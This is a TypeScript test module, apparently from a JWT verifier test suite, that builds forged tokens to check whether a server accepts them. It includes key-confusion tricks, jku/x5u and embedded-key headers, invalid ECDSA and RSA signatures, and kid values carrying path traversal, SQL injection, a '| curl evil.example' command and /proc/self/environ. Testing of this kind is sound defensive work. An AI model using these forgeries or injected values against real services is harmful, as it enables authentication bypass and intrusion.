import { Buffer } from "node:buffer";
import { createPublicKey, generateKeyPairSync } from "node:crypto";
import { type Forger, rawKey } from "../forger.js";
import { signed } from "../provider.js";
import { byCurve, byRsa, bySecret, compact } from "../raw-token.js";
import type { Forgery } from "./forgery.js";

type Header = (forger: Forger) => object;

/** Signed by the forger's own key, with a header that would make a careless server use it. */
const ownKey =
  (header: Header = () => ({})) =>
  (forger: Forger): string =>
    compact({ alg: "RS256", typ: "JWT", ...header(forger) }, forger.claims(), byRsa(rawKey(forger.own.rsa)));

const named = (kid: unknown): Forgery => [`kid ${JSON.stringify(kid).slice(0, 60)}`, ownKey(() => ({ kid }))];

const spki = ({ own }: Forger): string =>
  createPublicKey(rawKey(own.rsa)).export({ type: "spki", format: "der" }).toString("base64");

const onCurve = (namedCurve: string, header: object) => (forger: Forger) =>
  compact({ alg: "ES256", ...header }, forger.claims(), byCurve(generateKeyPairSync("ec", { namedCurve }).privateKey));

const withSignature =
  (key: "curve" | "edwards" | "rsa", signature: Uint8Array) =>
  (forger: Forger): string =>
    compact({ alg: forger[key].alg, kid: forger[key].kid }, forger.claims(), () => signature);

/** The order of P-256: 0 in disguise. */
const ORDER = Buffer.from("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", "hex");

const KIDS: readonly unknown[] = [
  "../../../../../../dev/null",
  "/proc/self/environ",
  "rsa-1' UNION SELECT 'secret' --",
  "'; DROP TABLE service_token; --",
  "| curl evil.example",
  "x".repeat(5_000),
  "",
  "__proto__",
  "constructor",
  "RSA-1",
  "rsa-1\0",
  1,
  null,
  ["rsa-1"],
  { kid: "rsa-1" },
];

/** Tokens that are not signed by a key of the provider, and tokens that say where the right key is. */
export const KEY: readonly Forgery[] = [
  ["a foreign RSA key under the name of the true one", ({ own, claims }) => signed(claims(), own.rsa)],
  ["a foreign key on a curve under the name of the true one", ({ own, claims }) => signed(claims(), own.curve)],
  ["a foreign Edwards key under the name of the true one", ({ own, claims }) => signed(claims(), own.edwards)],
  ["a foreign key without a name", ownKey()],
  ["a true key under the name of another one", ({ curve, claims }) => signed(claims(), { ...curve, kid: "rsa-1" })],
  ...KIDS.map(named),
  ["kid: an address", ownKey(({ trap }) => ({ kid: `${trap.url}/kid` }))],
  [
    "kid /dev/null with an empty secret",
    ({ claims }) => compact({ alg: "HS256", kid: "../../dev/null" }, claims(), bySecret("")),
  ],
  ["jku", ownKey(({ trap }) => ({ kid: "mine", jku: `${trap.url}/jwks` }))],
  ["jku with the name of a true key", ownKey(({ trap }) => ({ kid: "rsa-1", jku: `${trap.url}/jwks` }))],
  ["jku that begins like the provider", ownKey(({ trap, provider }) => ({ jku: `${provider.url}@${trap.url}/jwks` }))],
  ["jku to a file", ownKey(() => ({ jku: "file:///etc/passwd" }))],
  ["x5u", ownKey(({ trap }) => ({ kid: "mine", x5u: `${trap.url}/certificate.pem` }))],
  ["x5u with the name of a true key", ownKey(({ trap }) => ({ kid: "rsa-1", x5u: `${trap.url}/certificate.pem` }))],
  ["an embedded jwk", ownKey(({ own }) => ({ jwk: own.rsa.published }))],
  ["an embedded jwk with the name of a true key", ownKey(({ own }) => ({ kid: "rsa-1", jwk: own.rsa.published }))],
  ["an embedded x5c", ownKey((forger) => ({ kid: "rsa-1", x5c: [spki(forger)] }))],
  ["an x5t of nothing", ownKey(() => ({ x5t: "AAAA", "x5t#S256": "AAAA" }))],
  ["ES256 on P-384", onCurve("P-384", { kid: "curve-1" })],
  ["ES256 on the curve of Bitcoin", onCurve("secp256k1", { kid: "curve-1" })],
  ["ES256 with r and s zero", withSignature("curve", Buffer.alloc(64))],
  ["ES256 with r and s the order", withSignature("curve", Buffer.concat([ORDER, ORDER]))],
  ["ES256 with an empty signature", withSignature("curve", Buffer.alloc(0))],
  [
    "ES256 with a signature in DER",
    ({ claims, curve }) => compact({ alg: "ES256", kid: curve.kid }, claims(), byCurve(rawKey(curve), "der")),
  ],
  ["EdDSA with a signature of zeros", withSignature("edwards", Buffer.alloc(64))],
  ["RS256 with a signature of zeros", withSignature("rsa", Buffer.alloc(256))],
  ["RS256 with the signature 1", withSignature("rsa", Buffer.concat([Buffer.alloc(255), Buffer.from([1])]))],
];
